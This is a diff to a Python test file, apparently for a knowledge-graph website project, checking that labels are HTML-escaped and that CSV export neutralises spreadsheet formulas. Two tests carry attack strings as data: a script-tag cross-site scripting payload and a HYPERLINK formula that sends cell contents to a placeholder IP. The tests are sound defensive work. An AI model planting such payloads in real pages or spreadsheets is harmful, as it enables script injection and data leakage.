@@ -287,6 +287,7 @@ def test_a_failure_of_the_engine_is_no_verdict(monkeypatch) -> None:
 def test_a_page_runs_what_a_label_says(tmp_path, monkeypatch) -> None:
     import jinja2
 
+    from itss_graph.site.knowledge import Knowledge
     from itss_graph.site.pages import Pages
 
     attack = "<script>alert(1)</script>"
@@ -294,12 +295,12 @@ def test_a_page_runs_what_a_label_says(tmp_path, monkeypatch) -> None:
     text = resources.path("ontology", "itsm.ttl").read_text("utf-8")
     more = f'<https://w3id.org/itss/itsm/ServiceDesk> <http://www.w3.org/2004/02/skos/core#altLabel> "{attack}"@en .'
     file.write_text(f"{text}\n{more}\n", "utf-8")
-    assert attack not in Pages.load(file).page("itsm/ServiceDesk")
+    assert attack not in Pages.of(Knowledge.load(file)).page("itsm/ServiceDesk")
     environment = jinja2.Environment.__init__
     monkeypatch.setattr(
         jinja2.Environment, "__init__", lambda self, **named: environment(self, **{**named, "autoescape": False})
     )
-    assert attack in Pages.load(file).page("itsm/ServiceDesk")
+    assert attack in Pages.of(Knowledge.load(file)).page("itsm/ServiceDesk")
 
 
 @pytest.fixture
@@ -366,11 +367,11 @@ def test_a_trickled_answer_outlives_a_timeout(other) -> None:
 
 
 def test_no_cell_is_a_formula(monkeypatch) -> None:
-    from itss_graph.reports import rows
+    from itss_graph.presentation import csv
 
     attack = '=HYPERLINK("http://192.0.2.1/?"&A1)'
     table = pl.DataFrame({"x": [attack, "+1", "-1", "@x", "\tx", "\rx", "plain"]})
-    harmless = rows.without_formulas(table)["x"].to_list()
+    harmless = csv.without_formulas(table)["x"].to_list()
     assert harmless == [f"'{attack}", "'+1", "'-1", "'@x", "'\tx", "'\rx", "plain"]
     buffer = io.StringIO()
     table.write_csv(buffer)
